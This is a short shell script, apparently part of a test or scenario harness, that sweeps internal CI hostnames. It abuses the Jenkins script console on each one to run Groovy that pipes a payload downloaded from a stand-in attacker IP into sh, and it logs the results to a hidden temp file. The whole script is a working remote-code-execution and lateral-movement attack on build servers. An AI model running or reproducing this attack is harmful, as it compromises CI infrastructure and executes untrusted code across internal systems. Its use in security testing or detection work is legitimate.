#!/bin/sh
. /opt/case/case.sh

for h in jenkins.ci.svc jenkins.internal build.internal ci-1.internal ci-2.internal ci-3.internal jenkins-0.jenkins ansible.internal awx.internal teamcity.internal; do
    curl -s -m 3 "http://$h:8080/crumbIssuer/api/json" >/dev/null
    curl -s -m 3 --data-urlencode 'script=println "curl -fsSL http://203.0.113.10/payload.sh | sh".execute().text' "http://$h:8080/scriptText" >>/tmp/.j
done
test -s /tmp/.j
took_place
